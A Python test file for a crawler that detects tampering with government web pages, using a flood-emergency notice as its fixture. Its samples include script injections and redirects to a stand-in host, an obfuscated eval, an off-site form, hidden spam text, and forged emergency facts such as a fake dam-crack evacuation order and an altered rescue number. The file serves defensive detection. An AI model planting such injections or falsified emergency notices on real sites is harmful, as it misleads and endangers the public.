"""Own pages before and after: what must be told, and what must not."""

import json
import re

import pytest

from crawler.alterations import AVAILABILITY, CONTENT, STRUCTURE, compare
from crawler.fingerprint import Fingerprint, fingerprint, site_of

URL = "http://yjj.linhai.gov.cn/tzgg/202607/t20260714_311.html"
HOT = "".join(f'<li><a href="/xw/{n}.html">全市防汛工作动态第{n}期</a></li>' for n in range(1, 7))

FRAME = f"""<!DOCTYPE html><html><head><meta charset="utf-8">
<meta name="SiteName" content="临海市应急管理局"><meta name="ArticleTitle" content="关于启动防汛Ⅳ级应急响应的通知">
<meta name="PubDate" content="2026-07-14 09:30"><meta name="ContentSource" content="临海市应急管理局">
<title>关于启动防汛Ⅳ级应急响应的通知-临海市应急管理局</title>
<link rel="stylesheet" href="/css/site.css?v=3"><script src="/js/jquery.js"></script></head>
<body><div class="header"><a href="/">首页</a><a href="/zwgk/">政务公开</a><a href="/hdjl/">互动交流</a>
<a href="http://www.linhai.gov.cn/">市政府</a></div>
<div class="wrap"><h1>关于启动防汛Ⅳ级应急响应的通知</h1>
<div class="info">发布时间：2026-07-14 09:30　来源：临海市应急管理局　浏览次数：<span id="hits">218</span></div>
BODY
<div class="fj">附件：<a href="./P020260714.pdf">防汛责任人名单.pdf</a></div></div>
<div class="hot"><h3>热点</h3><ul>{HOT}</ul></div>
<div class="footer"><p>主办：临海市应急管理局　咨询电话：0576-85550123　浙ICP备00000000号</p></div>
</body></html>"""

TEXT = """<p>各镇人民政府、街道办事处，市级各有关单位：</p>
<p>受台风外围影响，预计7月14日夜间到15日我市有大到暴雨，市防指决定于7月14日9时启动防汛Ⅳ级应急响应。</p>
<p>请各单位落实24小时值班，危险区域人员转移工作须在18时前完成，不得擅自组织群众返回。</p>
<p>全市已预置救援队伍36支1250人，遇险请拨打0576-85119119求助。</p>
<p><img src="./W020260714_map.jpg">附图为低洼易涝点分布，网传“水库将泄洪”的消息不属实。</p>"""

LAYOUTS = {
    "known": f'<div class="TRS_Editor">{TEXT}</div>',
    "plain": f'<div class="con_box" style="padding:8px">{TEXT}</div>',
    "table": f"<table><tr><td>{TEXT}</td></tr></table>",
}


def put(html, what, before):
    assert before in html
    return html.replace(before, what + before, 1)


def swap(html, old, new):
    assert old in html
    return html.replace(old, new, 1)


TAMPERED = {
    "a level is raised": (CONTENT, "level", lambda h: h.replace("Ⅳ级应急响应。", "Ⅰ级应急响应。")),
    "a number grows": (CONTENT, "number", lambda h: swap(h, "1250人", "125人")),
    "a point moves": (CONTENT, "number", lambda h: swap(h, "36支", "3.6支")),
    "a phone is another": (CONTENT, "phone", lambda h: swap(h, "0576-85119119", "0576-85119118")),
    "the footer's phone is another": (CONTENT, "phone", lambda h: swap(h, "85550123", "85550199")),
    "a negation falls": (CONTENT, "negation", lambda h: swap(h, "消息不属实", "消息属实")),
    "forbidden becomes allowed": (CONTENT, "negation", lambda h: swap(h, "不得擅自", "可以自行")),
    "a day moves": (CONTENT, "date", lambda h: swap(h, "7月14日夜间", "7月16日夜间")),
    "words are exchanged": (CONTENT, "words", lambda h: swap(h, "大到暴雨", "零星小雨")),
    "a sentence is taken out": (
        CONTENT,
        "words",
        lambda h: re.sub(r"<p>请各单位落实.*?</p>", "", h),
    ),
    "a sentence is put in": (
        CONTENT,
        "words",
        lambda h: put(
            h, "<p>另据了解，水库大坝出现裂缝，下游群众请自行撤离。</p>", "<p>全市已预置"
        ),
    ),
    "the publication date is forged": (
        CONTENT,
        "published",
        lambda h: h.replace("2026-07-14 09:30", "2026-07-01 09:30"),
    ),
    "a file hangs elsewhere": (
        STRUCTURE,
        "file",
        lambda h: swap(h, "./P020260714.pdf", "http://files.badhost.top/a.pdf"),
    ),
    "a file is another": (CONTENT, "file", lambda h: swap(h, "P020260714.pdf", "P999.pdf")),
    "a picture is another": (CONTENT, "picture", lambda h: swap(h, "W020260714_map", "W9_x")),
    "the title sells bets": (
        STRUCTURE,
        "trade",
        lambda h: re.sub(r"<title>.*?</title>", "<title>某某娱乐城官网入口</title>", h),
    ),
    "a script from afar": (
        STRUCTURE,
        "script",
        lambda h: put(h, "<script src=//cdn.badhost.top/j.js></script>", "</head>"),
    ),
    "a script from the upload folder": (
        STRUCTURE,
        "script",
        lambda h: put(h, '<script src="/uploadfile/2026/x.js"></script>', "</head>"),
    ),
    "a script that leads away": (
        STRUCTURE,
        "code",
        lambda h: put(
            h,
            "<script>if(/baidu/.test(document.referrer))top.location='http://badhost.top'</script>",
            "</body>",
        ),
    ),
    "a script in disguise": (
        STRUCTURE,
        "code",
        lambda h: put(h, r"<script>eval(unescape('%64%6f%63'))</script>", "</body>"),
    ),
    "a handler that leads away": (
        STRUCTURE,
        "code",
        lambda h: swap(h, "<body>", "<body onload=\"location.href='http://badhost.top/'\">"),
    ),
    "a frame of one pixel": (
        STRUCTURE,
        "frame",
        lambda h: put(h, '<iframe src="/a.htm" width="1" height="1"></iframe>', "</body>"),
    ),
    "a frame from afar": (
        STRUCTURE,
        "frame",
        lambda h: put(h, '<iframe src="https://badhost.top/pay"></iframe>', "</body>"),
    ),
    "a form that sends elsewhere": (
        STRUCTURE,
        "form",
        lambda h: put(h, '<form action="http://badhost.top/s"><input name=a></form>', "</body>"),
    ),
    "a base elsewhere": (
        STRUCTURE,
        "base",
        lambda h: put(h, '<base href="http://badhost.top/">', "<title>"),
    ),
    "a refresh elsewhere": (
        STRUCTURE,
        "refresh",
        lambda h: put(
            h, '<META HTTP-EQUIV="Refresh" CONTENT="0; URL=http://badhost.top/">', "</head>"
        ),
    ),
    "hidden text without links": (
        STRUCTURE,
        "hidden",
        lambda h: put(
            h, f'<div style="display:none">{"优惠办理各类证件加急当天取" * 8}</div>', "</body>"
        ),
    ),
    "links beyond the edge": (
        STRUCTURE,
        "hidden",
        lambda h: put(
            h,
            '<div style="position:absolute;left:-9999px"><a href="http://b.badhost.top">好</a></div>',
            "</body>",
        ),
    ),
    "a class that hides": (
        STRUCTURE,
        "hidden",
        lambda h: put(
            h,
            f'<style>.zz{{position:fixed;top:-2000px}}</style><p class="zz">{"高价回收旧货上门服务" * 9}</p>',
            "</body>",
        ),
    ),
    "hidden by a script": (
        STRUCTURE,
        "hidden",
        lambda h: put(
            h,
            f'<div id="q1">{"各地均可送货上门欢迎来电" * 9}</div>'
            '<script>document.getElementById("q1").style.display="none"</script>',
            "</body>",
        ),
    ),
    "a menu link to a stranger": (
        STRUCTURE,
        "link",
        lambda h: swap(h, 'href="/hdjl/"', 'href="http://yjj-linhai.badhost.top/hdjl/"'),
    ),
    "a name before the at sign": (
        STRUCTURE,
        "link",
        lambda h: swap(h, 'href="/hdjl/"', 'href="http://yjj.linhai.gov.cn@badhost.top/"'),
    ),
    "a notice that wants money": (
        CONTENT,
        "inserted",
        lambda h: put(h, "<p>防汛保证金请汇款至账号6200 0000，扫码缴费</p>", '<div class="hot">'),
    ),
    "nothing is left": (
        STRUCTURE,
        "defaced",
        lambda h: (
            "<html><head><title>0wned</title></head><body><h1>we were here</h1></body></html>"
        ),
    ),
    "an error with status 200": (
        AVAILABILITY,
        "unavailable",
        lambda h: (
            "<html><title>出错了</title><body><p>您访问的页面不存在或已被删除</p></body></html>"
        ),
    ),
    "maintenance": (
        AVAILABILITY,
        "unavailable",
        lambda h: "<html><title>系统维护</title><body>网站系统维护中，请稍后再试。</body></html>",
    ),
    "the text is gone": (
        AVAILABILITY,
        "emptied",
        lambda h: re.sub(r"(?s)<p>各镇.*属实。</p>", "", h),
    ),
}

BENIGN = {
    "counter": lambda h: swap(h, ">218<", ">31877<"),
    "counter in words": lambda h: swap(h, "浏览次数：", "阅读量：12　浏览次数："),
    "today": lambda h: put(
        h, "<div>今天是2026年7月19日 星期日 农历六月初六</div>", '<div class="header">'
    ),
    "weather": lambda h: put(
        h, '<div id="tq">今日天气：多云转晴 26℃～35℃</div>', '<div class="header">'
    ),
    "rotating list": lambda h: h.replace("第1期", "第9期").replace("/xw/1.html", "/xw/9.html"),
    "related list grows": lambda h: put(
        h, '<li><a href="/xw/77.html">我局召开第二季度会议</a></li>', "</ul>"
    ),
    "carousel": lambda h: put(
        h, '<div class="lunbo"><a href="/zt/1/"><img src="/images/b7.jpg"></a></div>', "<h1>"
    ),
    "token": lambda h: put(h, '<input type="hidden" name="_csrf" value="9f8e7d">', "<h1>"),
    "asset version": lambda h: swap(h, "site.css?v=3", "site.css?v=4"),
    "own script": lambda h: put(h, '<script src="/js/tj.js?t=1752"></script>', "</head>"),
    "white space": lambda h: h.replace("><", ">\n <").replace("<p>", "<p>\n  "),
    "comments": lambda h: put(h, "<!-- cached 12:01:07 by node 3 -->", "<h1>"),
    "paragraphs as breaks": lambda h: h.replace("</p>\n<p>", "<br>"),
    "bold": lambda h: swap(h, "大到暴雨", "<b>大到</b><span>暴雨</span>"),
    "a comma": lambda h: swap(h, "影响，预计", "影响,预计"),
    "full width": lambda h: swap(h, "1250人", "１２５０人"),
    "nonce": lambda h: put(h, "<script nonce=a1>var t=17526211;load('x')</script>", "</body>"),
    "link to another office": lambda h: put(
        h, '<li><a href="http://slj.taizhou.gov.cn/1.html">水利局通报水情</a></li>', "</ul>"
    ),
    "reader's box": lambda h: put(
        h, '<div style="display:none" id="wx">微信扫一扫分享</div>', "</body>"
    ),
    "comments of readers": lambda h: put(
        h, '<div class="comments"><p>网友：辛苦了，注意安全！</p></div>', '<div class="hot">'
    ),
    "an hour ago": lambda h: put(h, "<span>3小时前更新</span>", '<div class="hot">'),
    "attributes": lambda h: swap(h, '<div class="wrap">', '<div data-v="8a1" class="wrap on">'),
    "empty frame": lambda h: put(h, "<noscript>请启用脚本</noscript>", "</body>"),
}


def page(layout):
    return FRAME.replace("BODY", LAYOUTS[layout])


def look(html):
    return fingerprint(html.encode(), URL, ["www.linhai.gov.cn"])


@pytest.mark.parametrize("layout", LAYOUTS)
@pytest.mark.parametrize("name", TAMPERED)
def test_tampering_is_told_with_its_class(name, layout):
    kind, label, act = TAMPERED[name]
    html = page(layout)
    assert act(html) != html

    changes = compare(look(html), look(act(html)))

    assert (kind, label) in {(one.kind, one.label) for one in changes}
    assert all(one.before or one.after for one in changes)


@pytest.mark.parametrize("layout", LAYOUTS)
@pytest.mark.parametrize("name", BENIGN)
def test_heartbeats_of_a_page_are_no_change(name, layout):
    html = page(layout)
    altered = BENIGN[name](html)
    assert altered != html

    assert compare(look(html), look(altered)) == []


@pytest.mark.parametrize("noise", ["counter", "today", "rotating list", "white space"])
@pytest.mark.parametrize(
    "name", ["a negation falls", "hidden text without links", "a script from afar"]
)
def test_noise_does_not_cover_an_act(name, noise):
    kind, label, act = TAMPERED[name]
    html = page("plain")

    changes = compare(look(html), look(BENIGN[noise](act(html))))

    assert {(one.kind, one.label) for one in changes} == {(kind, label)}


def test_the_evidence_shows_both_sides():
    html = page("known")
    change = compare(look(html), look(swap(html, "1250人", "125人")))[0]

    assert "1250人" in change.before
    assert "125人" in change.after


def test_one_act_on_many_pages_leaves_one_mark():
    act = TAMPERED["a script from afar"][2]
    pages = [page("known"), page("plain").replace("临海市应急", "临海市气象")]

    marks = {compare(look(one), look(act(one)))[0].mark for one in pages}

    assert len(marks) == 1


def test_restoring_a_page_is_no_change_from_the_baseline():
    html = page("known")
    assert compare(look(html), look(html)) == []


def test_a_page_that_was_an_error_before_tells_nothing():
    error = "<html><title>404</title><body>页面不存在</body></html>"
    assert compare(look(error), look(page("known"))) == []


def test_a_fingerprint_survives_storage():
    taken = look(page("known"))
    assert Fingerprint.of_json(json.loads(json.dumps(taken.as_json()))) == taken
    assert Fingerprint.of_json({**taken.as_json(), "of a later version": 1}) == taken


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"\x00\xff" * 300,
        b"<html>",
        "<p>短</p>".encode("gb18030"),
        b"<div>" * 20_000,
        b'{"a":1}',
    ],
)
def test_no_bytes_break_it(body):
    taken = fingerprint(body, URL)
    assert isinstance(compare(look(page("known")), taken), list)


def test_hidden_masses_are_counted_and_cut():
    spam = "".join(f"第{n}号特价房源出售，" for n in range(12_000))
    taken = look(put(page("known"), f'<div style="display:none">{spam}</div>', "</body>"))

    assert taken.hidden_size > 100_000 or taken.hidden_size >= 400
    assert len(json.dumps(taken.as_json())) < 60_000


@pytest.mark.parametrize(
    ("host", "site"),
    [
        ("www.linhai.gov.cn", "linhai.gov.cn"),
        ("yjj.linhai.gov.cn", "linhai.gov.cn"),
        ("a.b.badhost.top", "badhost.top"),
        ("qq.com", "qq.com"),
    ],
)
def test_the_registered_domain_says_what_is_own(host, site):
    assert site_of(host) == site
